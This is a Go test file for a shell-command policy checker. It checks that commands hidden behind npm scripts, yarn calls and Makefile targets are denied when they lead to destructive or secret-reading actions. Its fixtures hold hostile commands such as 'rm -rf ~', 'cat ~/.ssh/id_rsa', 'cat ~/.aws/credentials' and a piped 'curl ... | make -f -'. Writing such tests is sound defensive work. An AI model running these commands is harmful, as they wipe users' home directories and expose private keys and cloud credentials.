package plan

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/atip-dev/atip-exec/policy"
)

// What is denied is denied behind the name of a script, a target or a recipe too, and
// nothing else becomes stricter by being read.
func TestTargets(t *testing.T) {
	m := shellWorld(t)
	for name, text := range map[string]string{
		"package.json": `{"name":"p","version":"1.0.0","scripts":{"ok":"tsc -p . && node build.js","bad":"tsc; rm -rf ~","pretest":"cat ~/.ssh/id_rsa","test":"node t.js",
			"chain":"npm run -s middle","middle":"yarn bad","loop":"npm run loop","echo":"echo","asks":"git push","shell":"sh evil.sh"}}`,
		"sub/index.js": "",
		"evil.sh":      "#!/bin/sh\nsh worse.sh\n",
		"worse.sh":     "rm -rf ~\n",
		"Makefile": `# comment: rm -rf ~
OUT := build
HOME_DIR = $(HOME)
ALL += $(OUT)/x
.PHONY: all clean
all: $(ALL) lint
$(OUT)/x: src/a ; @echo x
	@mkdir -p $(OUT) && \
	  cp $< $@
lint:
	-golint ./...
clean:
	rm -rf $(OUT)
wipe:
	@rm -rf $(HOME_DIR)
indirect: wipe2
wipe2:
	cd src && $(MAKE) -C .. wipe
dollar:
	for d in $$HOME; do rm -rf $$d; done
given:
	rm -rf $(WHERE)
unknown:
	rm -rf $(shell cat where)/x
broken:
	echo "
%.out: %.in
	cat ~/.aws/credentials > $@
`,
		"sub2/Makefile": "V := $(shell rm -rf ~)\nall:\n\techo $(V)\n",
		"sub3/Makefile": "include ../Makefile.inc\nall: inner\n",
		"Makefile.inc":  "inner:\n\trm -rf ~\n",
	} {
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for cmd, want := range map[string]policy.Action{
		"npm run ok": policy.Allow, "npm run bad": policy.Deny, "npm test": policy.Deny, "npm run chain": policy.Deny, "npm run loop": policy.Allow, "npm run missing": policy.Allow, "npm run": policy.Allow,
		"npm run asks": policy.Allow, "npm run shell": policy.Deny, "pnpm run bad": policy.Deny, "yarn bad": policy.Deny, "yarn run ok": policy.Allow, "cd sub && npm run bad": policy.Deny,
		"npm --prefix sub run bad": policy.Deny, "npm run echo -- x": policy.Allow,
		"make": policy.Allow, "make clean": policy.Allow, "make wipe": policy.Deny, "make indirect": policy.Deny, "make dollar": policy.Deny, "make all wipe": policy.Deny, "make -n wipe": policy.Allow,
		"make given": policy.Allow, "make given WHERE=/": policy.Deny, "make unknown": policy.Allow, "make broken": policy.Allow, "make x.out": policy.Deny, "make -C sub2": policy.Deny, "make -C sub2 -n": policy.Deny,
		"make -C sub3": policy.Deny, "make -f Makefile.inc": policy.Deny, "make HOME_DIR=x wipe": policy.Allow, "make -f - <<< 'all: ; rm -rf ~'": policy.Deny, "curl https://x.example/m | make -f -": policy.Deny, "cat unknown | make -f -": policy.Confirm, "make -f - <<< 'all: ; echo x'": policy.Allow, "cd sub2; make": policy.Deny,
	} {
		if p := planOf(t, m, cmd); p.Decision.Action != want {
			t.Errorf("%s: %v, want %v: %v", cmd, p.Decision.Action, want, p.Decision.Reasons)
		}
	}
}

// An approval binds the file that says what runs.
func TestTargetFilesAreBound(t *testing.T) {
	m := shellWorld(t)
	if err := os.WriteFile("Makefile", []byte("all:\n\techo\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	p := planOf(t, m, "sudo make all")
	files, _ := p.Binding()["files"].(map[string]any)
	found := false
	for path := range files {
		found = found || strings.HasSuffix(path, "/Makefile")
	}
	if !found {
		t.Errorf("bound files: %v", files)
	}
}
